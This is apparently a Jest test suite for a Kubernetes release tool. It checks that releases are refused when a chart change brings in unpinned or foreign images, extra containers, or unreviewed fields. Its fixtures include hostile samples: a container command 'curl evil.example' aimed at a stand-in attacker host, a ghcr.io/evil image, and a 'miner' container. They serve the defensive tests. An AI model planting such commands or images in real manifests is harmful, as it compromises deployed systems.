import type { KubeObject } from '@vmshift/kubernetes';
import type { ReleasePin } from '@vmshift/releases';
import { FIRST, firstPin } from '../testing/first-pin';
import { digest, sha, type TestClone, TestOrigin } from '../testing/test-origin';
import { requireImagesOnly } from './require-images-only';

jest.mock('../run-program', () =>
  jest
    .requireActual('../../../../tooling/testing/attestations.cjs')
    .withAttestations(jest.requireActual('../run-program')),
);

/**
 * A chart with a condition that a pull request could bring in: honest for every build that anybody looks at, another for
 * the one that is released next.
 */
type Condition = (objects: readonly KubeObject[]) => readonly KubeObject[];
const chart: { evil: Condition | undefined; image: string | undefined } = { evil: undefined, image: undefined };
const NEXT = 'b'.repeat(40);

jest.mock('../../../vmshift/src/build-objects', () => {
  const { buildObjects } = jest.requireActual('../../../vmshift/src/build-objects');
  return {
    buildObjects: (environment: unknown, pin: ReleasePin, platform: unknown) => {
      const objects = buildObjects(environment, pin, platform);
      return pin.commit === NEXT && chart.evil !== undefined
        ? chart.evil(JSON.parse(JSON.stringify(objects)))
        : objects;
    },
  };
});
jest.mock('../../../vmshift/src/images', () => {
  const { resolveImages } = jest.requireActual('../../../vmshift/src/images');
  return {
    resolveImages: (platform: unknown, pin: ReleasePin) => {
      const images = resolveImages(platform, pin);
      return pin.commit === NEXT && chart.image !== undefined ? { ...images, api: chart.image } : images;
    },
  };
});
jest.setTimeout(120_000);

let origin: TestOrigin;
beforeAll(async () => {
  origin = new TestOrigin();
  const builds = await origin.startGitHub({
    branch: 'main',
    commit: NEXT,
    digests: [digest('1'), digest('2')],
    number: 2,
  });
  builds.add({ branch: 'main', commit: sha('c'), digests: [digest('3')], number: 3 });
});
beforeEach(() => {
  origin.reset();
  Object.assign(chart, { evil: undefined, image: undefined });
});
afterAll(() => origin.remove());

const BUILD = [
  ...['--branch=main', `--sha=${NEXT}`, '--sequence=2'],
  ...['--image', `api=${digest('1')}`, '--image', `celery=${digest('2')}`],
];
const LATER = [
  ...['--branch=main', `--sha=${sha('c')}`, '--sequence=3'],
  ...['--image', `api=${digest('3')}`, '--image', `celery=${digest('3')}`],
];
const API = 'ghcr.io/ilearn-code/vmshift-api';

/** What the program answers, with nothing changed anywhere. */
async function refuse(clone: TestClone, ...args: readonly string[]): Promise<string> {
  const before = [clone.state(), origin.head()];
  const result = await clone.run(...args);
  expect({ code: result.code, out: result.out }).toEqual({ code: 1, out: '' });
  expect([clone.state(), origin.head()]).toEqual(before);
  return result.err;
}

/** The object of that name, to be changed in place. */
function find(objects: readonly KubeObject[], kind: string, name: string) {
  const found = objects.find((object) => object.kind === kind && object.metadata.name === name);
  if (found === undefined) throw new Error(`there is no ${kind}/${name}`);
  return found as never as {
    spec: { template: { spec: Pod }; jobTemplate: { spec: { template: { spec: Pod } } } };
    data: Record<string, string>;
  };
}
interface Pod {
  containers: { name: string; image: string; env: object[]; command?: string[] }[];
  initContainers?: object[];
}
const api = (objects: readonly KubeObject[]) => find(objects, 'Deployment', 'vmshift-api').spec.template.spec;
const apiContainer = (objects: readonly KubeObject[]) => api(objects).containers[0] as Pod['containers'][number];

const changed =
  (edit: (objects: readonly KubeObject[]) => void): Condition =>
  (objects) => {
    edit(objects);
    return objects;
  };
const imageOf = (image: string) => changed((objects) => Object.assign(apiContainer(objects), { image }));

describe('door: evil image through the chart: a release of a chart that waits for its build', () => {
  // One for all: each test expects that nothing changes in it.
  let clone: TestClone;
  beforeAll(() => {
    origin.reset();
    clone = origin.clone();
  });

  test.each<[string, Condition, string]>([
    [
      'a foreign repository',
      imageOf(`ghcr.io/evil/vmshift-api:main-${NEXT}@${digest('1')}`),
      `Deployment/vmshift-api spec.template.spec.containers[vmshift-api].image [image-not-pinned]\n    now: ghcr.io/evil/vmshift-api:main-${NEXT}`,
    ],
    [
      'another digest than the pin has',
      imageOf(`${API}:main-${NEXT}@${digest('9')}`),
      `Deployment/vmshift-api spec.template.spec.containers[vmshift-api].image [image-not-pinned]\n    now: ${API}:main-${NEXT}@${digest('9')}`,
    ],
    [
      'no digest, though the pin has one',
      imageOf(`${API}:main-${NEXT}`),
      `Deployment/vmshift-api spec.template.spec.containers[vmshift-api].image [image-not-pinned]\n    now: ${API}:main-${NEXT}`,
    ],
    [
      'the floating tag',
      imageOf(`${API}:latest`),
      `Deployment/vmshift-api spec.template.spec.containers[vmshift-api].image [image-of-another-branch]\n    now: ${API}:latest`,
    ],
    [
      'a foreign image in an init container',
      changed((objects) => {
        api(objects).initContainers = [{ ...apiContainer(objects), name: 'x', image: 'ghcr.io/evil/x:1' }];
      }),
      'Deployment/vmshift-api spec.template.spec.initContainers[x].image [image-not-pinned]\n    now: ghcr.io/evil/x:1',
    ],
    [
      'a foreign image in the pods of a CronJob',
      changed((objects) => {
        const { containers } = find(objects, 'CronJob', 'postgresql-backup').spec.jobTemplate.spec.template.spec;
        Object.assign(containers[0] ?? {}, { image: 'ghcr.io/evil/x:1' });
      }),
      'CronJob/postgresql-backup spec.jobTemplate.spec.template.spec.containers[expire].image [image-not-pinned]\n    now: ghcr.io/evil/x:1',
    ],
    [
      'the honest image of the other workload',
      imageOf(`ghcr.io/ilearn-code/vmshift-celery:main-${NEXT}@${digest('2')}`),
      `production: Deployment/vmshift-api: spec.template.spec.containers[vmshift-api].image: ${API}:main-${FIRST} → ghcr.io/ilearn-code/vmshift-celery:main-${NEXT}@${digest('2')}`,
    ],
    [
      'a variable',
      changed((objects) => apiContainer(objects).env.push({ name: 'DEBUG', value: '1' })),
      ': nothing → {"name":"DEBUG","value":"1"}',
    ],
    [
      'a command',
      changed((objects) => Object.assign(apiContainer(objects), { command: ['sh', '-c', 'curl evil.example'] })),
      'production: Deployment/vmshift-api: spec.template.spec.containers[vmshift-api].command: nothing → ["sh","-c","curl evil.example"]',
    ],
    [
      'a field of a Service',
      changed((objects) =>
        Object.assign(find(objects, 'Service', 'vmshift-api-service').spec, { sessionAffinity: 'ClientIP' }),
      ),
      'production: Service/vmshift-api-service: spec.sessionAffinity: nothing → ClientIP',
    ],
    [
      'a value of a ConfigMap',
      changed((objects) => Object.assign(find(objects, 'ConfigMap', 'vmshift-api-config').data, { EVIL: '1' })),
      'production: ConfigMap/vmshift-api-config: data.EVIL: nothing → "1"',
    ],
    [
      'one more container',
      changed((objects) => {
        const { containers } = api(objects);
        containers.push({ ...apiContainer(objects), name: 'miner' });
      }),
      'containers[miner]',
    ],
    [
      'an object that goes',
      (objects) =>
        objects.filter(({ kind, metadata }) => `${kind}/${metadata.name}` !== 'PodDisruptionBudget/vmshift-api-pdb'),
      'production: PodDisruptionBudget/vmshift-api-pdb: {"apiVersion":"policy/v1"',
    ],
  ])('with %s is refused and changes nothing', async (_, evil, message) => {
    chart.evil = evil;
    expect(await refuse(clone, 'release', ...BUILD, '--push')).toContain(message);
  });

  test.each(['--commit', '--push'])(
    'with one line changed in images.ts and %s is refused: the model says whose images run',
    async (how) => {
      chart.image = `ghcr.io/evil/vmshift-api:main-${NEXT}@${digest('1')}`;
      const error = await refuse(clone, 'release', ...BUILD, how);
      expect(error).toContain(`now: ghcr.io/evil/vmshift-api:main-${NEXT}@${digest('1')}`);
      expect(error).toContain('Job/vmshift-schema');
    },
  );
});

const variable = changed((objects) => apiContainer(objects).env.push({ name: 'DEBUG', value: '1' }));

test('the refusal shows what would change, where, and how it can be reviewed', async () => {
  chart.evil = variable;
  const lines = (await refuse(origin.clone(), 'release', ...BUILD, '--dry-run', '--push')).split('\n');
  expect(lines).toEqual([
    'the release would change more than tags and digests: the chart renders what was never reviewed in dist/',
    '  production: Deployment/vmshift-api: spec.template.spec.containers[vmshift-api].env[DEBUG]: nothing → {"name":"DEBUG","value":"1"}',
    '  fix: run it without --commit and --push on a branch, and open a pull request; where the checks refuse that too,',
    '    apps/vmshift/src takes more than tag and digest of an image from the pin',
  ]);
});

test('without --commit it is written for a pull request, with the same lines as a warning', async () => {
  const clone = origin.clone();
  chart.evil = variable;
  const result = await clone.run('release', ...BUILD);
  expect(result.code).toBe(0);
  expect(result.err).toMatch(/^the release would change more than .*\n.*"DEBUG".*\n {2}next: commit it on a branch/);
  expect(clone.git('diff', '--', 'dist')).toContain('DEBUG');
});

test('a rollback is held to the same, and a resume writes the pin alone', async () => {
  const clone = origin.clone();
  await clone.run('release', ...BUILD, '--push');
  await clone.run('release', ...LATER, '--push');
  chart.evil = variable;
  const rollback = ['rollback', 'production', `--to=${NEXT}`, '--reason=errors', '--push'];
  expect(await refuse(clone, ...rollback)).toContain('the rollback would change more than tags and digests');
  chart.evil = undefined;
  expect(await clone.run(...rollback)).toMatchObject({ code: 0 });
  chart.evil = variable;
  expect(await clone.run('resume', 'production', '--push')).toMatchObject({ code: 0 });
  expect(clone.git('diff', '--name-only', 'HEAD~1', 'HEAD').trim()).toBe('apps/vmshift/releases/production.json');
});

test('a rollback to a build from before a reviewed change of the chart goes back, the change stays', async () => {
  const clone = origin.clone();
  await clone.run('release', ...BUILD, '--push');
  await clone.run('release', ...LATER, '--push');
  const file = 'dist/production/vmshift-api.deployment.yaml';
  await withChart(
    (objects) => {
      apiContainer(objects).env.push({ name: 'REVIEWED', value: '1' });
      return objects;
    },
    async () => {
      await clone.run('synth', '--only', 'manifests');
      clone.commitAll('Give the API a variable');
      clone.git('push', '--quiet');
      const result = await clone.run('rollback', 'production', '--reason=errors', '--push');
      expect(result).toMatchObject({ code: 0, err: '' });
    },
  );
  expect(clone.runs('production')).toBe('b');
  expect(clone.read(file)).toContain('REVIEWED');
  expect(clone.read(file)).toContain(`image: ${API}:main-${NEXT}@${digest('1')}`);
});

test('a reviewed change of the chart whose dist/ was not committed is no release', async () => {
  const clone = origin.clone();
  await withChart(
    (objects) => {
      apiContainer(objects).env.push({ name: 'FORGOTTEN', value: '1' });
      return objects;
    },
    async () => {
      const error = await refuse(clone, 'release', ...BUILD, '--push');
      expect(error).toContain('dist/production differs from a fresh render');
      expect(error).toContain('dist/production/vmshift-api.deployment.yaml');
      expect(error).toContain('fix: ./vmshiftctl synth --environment production && git add');
    },
  );
});

describe('the first release of an environment', () => {
  const remove = (clone: TestClone): void => {
    clone.git('rm', '-r', '--quiet', 'dist/dev', 'apps/vmshift/releases/dev.json');
    clone.commitAll('Declare an environment, with nothing rendered yet');
    clone.git('push', '--quiet');
  };
  const build = ['--branch=develop', `--sha=${NEXT}`, '--sequence=2'];

  test('writes its pin and its manifests for a pull request', async () => {
    const clone = origin.clone();
    remove(clone);
    expect(await clone.run('release', ...build)).toMatchObject({
      code: 0,
      err: expect.stringMatching(/^note: .*\n {2}api: .*\n {2}celery: .*$/),
    });
    expect(clone.status()).toContain('?? dist/dev/vmshift-api.deployment.yaml');
    expect(clone.status()).toContain('?? apps/vmshift/releases/dev.json');
    expect(await clone.run('synth', '--check', '--only', 'manifests')).toMatchObject({ code: 0 });
  });

  test('is no commit: what it would deploy was not reviewed', async () => {
    const clone = origin.clone();
    remove(clone);
    for (const how of ['--commit', '--push']) {
      expect(await refuse(clone, 'release', ...build, how)).toContain(
        '  dev: dist/dev holds nothing yet\n  fix: run it',
      );
    }
  });
});

test('a change whose environment was not rendered is compared with nothing, and so never passes', () => {
  const change = { environment: 'dev', outcome: 'change', from: undefined, to: firstPin('develop') } as const;
  const plan = { action: 'release', environments: [change] } as never;
  const rendered = { manifests: { folders: [] } } as never;
  for (const commit of [true, false])
    expect(() => requireImagesOnly({} as never, plan, rendered, { commit }, { warn: () => {} })).toThrow(
      'dev: nothing was rendered',
    );
});

/** Runs something with a chart that is changed for every build. */
async function withChart(change: Condition, run: () => Promise<void>): Promise<void> {
  const module = jest.requireMock('../../../vmshift/src/build-objects') as {
    buildObjects: (...args: readonly unknown[]) => readonly KubeObject[];
  };
  const { buildObjects } = module;
  module.buildObjects = (...args) => change(JSON.parse(JSON.stringify(buildObjects(...args))));
  try {
    await run();
  } finally {
    module.buildObjects = buildObjects;
  }
}
